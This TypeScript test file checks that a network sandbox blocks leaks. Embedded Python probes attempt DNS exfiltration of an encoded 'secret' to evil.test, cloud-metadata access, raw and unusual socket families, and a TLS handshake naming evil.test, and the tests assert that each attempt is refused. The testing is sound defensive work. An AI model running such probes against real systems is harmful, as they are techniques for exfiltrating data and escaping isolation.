/**
 * Promise 5: no route, no leak. Entries 34 to 44 (class C3), from inside a real sandbox. The servers that must not be reached stand on the host's
 * loopback and count what arrives: judged from outside. Negative control: the one server that the profile names is reached by the same means.
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { lookup } from "node:dns/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { constants, hostname } from "node:os";
import { after, before, describe, test } from "node:test";
import { makePlace, ofType, runGoverned, type Governed } from "../support/governed.ts";

interface Counter {
  readonly server: Server;
  readonly port: number;
  hits: number;
  /** What arrived, in bytes. */
  received: number;
}

async function listen(host: string): Promise<Counter> {
  const counter = { hits: 0, port: 0, received: 0 } as { server: Server; port: number; hits: number; received: number };
  counter.server = createServer((_request, response) => response.end("HOST"));
  counter.server.on("connection", (socket) => {
    counter.hits++;
    socket.on("data", (chunk) => (counter.received += chunk.length));
  });
  counter.server.listen(0, host);
  await once(counter.server, "listening");
  counter.port = (counter.server.address() as AddressInfo).port;
  return counter;
}

/** A name that leads to this machine, outside, and that is not `localhost`, which inside is the run's own. */
async function nameOfThisMachine(): Promise<string | undefined> {
  for (const name of [hostname().toLowerCase(), "ip6-localhost", "localhost4", "localhost.localdomain"]) {
    const { address } = await lookup(name).catch(() => ({ address: "" }));
    if (/^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|::1$|f[cd])/.test(address)) return name;
  }
  return undefined;
}

const QUERY = `
import socket, struct, sys
def ask(name, kind, raw=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    labels = raw if raw is not None else b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    s.sendto(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1), ("198.18.0.1", 53))
    try: data = s.recv(512)
    except socket.timeout: return "silence"
    return "%d:%d" % (data[3] & 15, struct.unpack(">H", data[6:8])[0])
`;

describe("no route, no leak", () => {
  const place = makePlace();
  let allowed: Counter;
  let other: Counter;
  /** On no list at all. */
  let hidden: Counter;
  let profile: string;
  const inside = (program: string): Promise<Governed> =>
    runGoverned(place, { argv: ["/usr/bin/python3", "-c", QUERY + program], profile });

  before(async () => {
    allowed = await listen("127.0.0.1");
    other = await listen("::").catch(() => listen("0.0.0.0")); // where there is no IPv6
    hidden = await listen("127.0.0.1");
    profile = [
      'extends = "standard"',
      "[network]",
      `allow = ["allowed.test:${String(allowed.port)}", "*.wild.test:${String(allowed.port)}"]`,
      "[network.hosts]",
      '"allowed.test" = "127.0.0.1"',
      '"deep.wild.test" = "127.0.0.1"',
    ].join("\n");
  });
  after(() => {
    allowed.server.close();
    other.server.close();
    hidden.server.close();
    place.remove();
  });

  test("negative control: the named host is reached, with no proxy setting and whatever NO_PROXY says (42)", async () => {
    const program = `import urllib.request, os
os.environ["NO_PROXY"] = "*"
for name in ["allowed.test", "ALLOWED.test.", "deep.wild.test"]:
    print(urllib.request.urlopen("http://%s:${String(allowed.port)}/" % name, timeout=20).read().decode())`;
    const result = await inside(program);
    assert.equal(result.stdout, "HOST\nHOST\nHOST\n", result.stderr);
    const opened = ofType(result.events, "connection.opened");
    assert.equal(opened.length, 3);
    assert.ok(
      opened.every((event) => event.exec !== undefined),
      "the process that connected is known",
    );
  });

  test("names are no data channel: nothing unlisted is answered, whatever the question (34, 43)", async () => {
    const result = await inside(`
for name, kind in [("c2VjcmV0.evil.test", 1), ("c2VjcmV0.evil.test", 16), ("allowed.test.evil.test", 1), ("evilallowed.test", 1), ("allowed.test", 16),
                   ("allowed.test", 15), ("allowed.test", 255), ("wild.test", 1), ("evilwild.test", 1), ("169.254.169.254", 1)]:
    print(name, kind, ask(name, kind))
print("nul", ask("", 1, b"\\x0eallowed.test\\0x\\0\\0"))
print("control", ask("allowed.test", 1))`);
    const lines = result.stdout.trim().split("\n");
    assert.match(lines.at(-1) ?? "", /^control 0:1$/);
    for (const line of lines.slice(0, -1)) assert.doesNotMatch(line, /:[1-9]/, line);
    assert.ok(
      ofType(result.events, "host.refused").some((event) => event.host.includes("evil.test")),
      "the refusal is recorded",
    );
  });

  test("no packet leaves by address, protocol or family (34, 40, 49, 51 of the network)", async () => {
    const before_ = hidden.hits;
    const result = await inside(`
def attempt(name, f):
    try: f(); print(name, "REACHED")
    except OSError as e: print(name, e.errno)
def tcp(family, address): socket.socket(family).connect(address)
def udp(address):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", address)
attempt("literal", lambda: tcp(socket.AF_INET, ("192.0.2.1", 80)))
attempt("loopback", lambda: tcp(socket.AF_INET, ("127.0.0.1", ${String(hidden.port)})))
attempt("metadata", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
attempt("ipv6", lambda: tcp(socket.AF_INET6, ("2001:db8::1", 80)))
attempt("mapped", lambda: tcp(socket.AF_INET6, ("::ffff:192.0.2.1", 80)))
attempt("udp", lambda: udp(("192.0.2.1", 53)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(17, 3))
attempt("vsock", lambda: socket.socket(40, 1))
attempt("alg", lambda: socket.socket(38, 5))
attempt("unassigned", lambda: tcp(socket.AF_INET, ("198.18.77.77", ${String(allowed.port)})))`);
    const { ENETUNREACH, ECONNREFUSED, EPERM, EAFNOSUPPORT } = constants.errno;
    const expected = {
      literal: ENETUNREACH,
      loopback: ECONNREFUSED,
      metadata: ENETUNREACH,
      ipv6: ENETUNREACH,
      mapped: ENETUNREACH,
      udp: ENETUNREACH,
      raw: EPERM,
      packet: EAFNOSUPPORT,
      vsock: EAFNOSUPPORT,
      alg: EAFNOSUPPORT,
    };
    const lines = Object.entries(expected).map(([name, errno]) => `${name} ${String(errno)}`);
    assert.deepEqual(result.stdout.trim().split("\n").slice(0, lines.length), lines, result.stderr);
    assert.equal(hidden.hits, before_, "the other server was reached");
    // Accepted by a listener of the gateway, for which that address means nothing.
    assert.ok(
      ofType(result.events, "host.refused").some(({ host }) => host === "198.18.77.77"),
      JSON.stringify(ofType(result.events, "host.refused")),
    );
  });

  test("an address of another name, or none, leads nowhere (35, 37)", async () => {
    const before_ = allowed.hits;
    const result = await inside(`
s = socket.create_connection(("198.18.77.77", ${String(allowed.port)}), 3)
try:
    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); print("got", s.recv(99))
except OSError as e: print("refused", e.errno)`);
    assert.ok(!result.stdout.includes("HOST"), result.stdout);
    assert.equal(allowed.hits, before_);
    assert.equal(ofType(result.events, "connection.opened").length, 0);
    assert.equal(ofType(result.events, "host.refused")[0]?.host, "198.18.77.77");
  });

  test("a TLS client that names another host is cut off before a byte leaves (36)", async () => {
    const before_ = allowed.received;
    const result = await inside(`
import ssl
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
for sni in ["evil.test", None]:
    try:
        s = c.wrap_socket(socket.create_connection(("allowed.test", ${String(allowed.port)}), 3), server_hostname=sni); print("HANDSHAKE")
    except (OSError, ValueError) as e: print(type(e).__name__)`);
    assert.ok(!result.stdout.includes("HANDSHAKE"));
    const refused = ofType(result.events, "host.refused");
    assert.ok(
      refused.some((event) => /evil\.test|SNI|server name/i.test(event.decision.reason)),
      JSON.stringify(refused),
    );
    assert.equal(allowed.received, before_, "bytes of the handshake left");
  });

  test("a listed name that has no static address never leads to the host's loopback or a private network (41, 44)", async (context) => {
    const name = await nameOfThisMachine();
    if (name === undefined) {
      context.skip("no name in this host's /etc/hosts leads to the host itself");
      return;
    }
    const before_ = other.hits;
    const url = `http://${name}:${String(other.port)}/`;
    assert.equal(await (await fetch(url)).text(), "HOST", "negative control: outside it is reached");
    assert.equal(other.hits, before_ + 1);
    const result = await runGoverned(place, {
      argv: [
        "/usr/bin/python3",
        "-c",
        `import urllib.request; print(urllib.request.urlopen(${JSON.stringify(url)}, timeout=5).read())`,
      ],
      profile: `extends = "standard"\n[network]\nallow = ["${name}:${String(other.port)}"]\n`,
    });
    assert.ok(!result.stdout.includes("HOST"), result.stdout);
    assert.equal(other.hits, before_ + 1);
    const [refused] = ofType(result.events, "host.refused").filter(({ host }) => host === name);
    assert.match(refused?.decision.reason ?? "", /loopback|private|this machine/i, JSON.stringify(refused));
  });
});
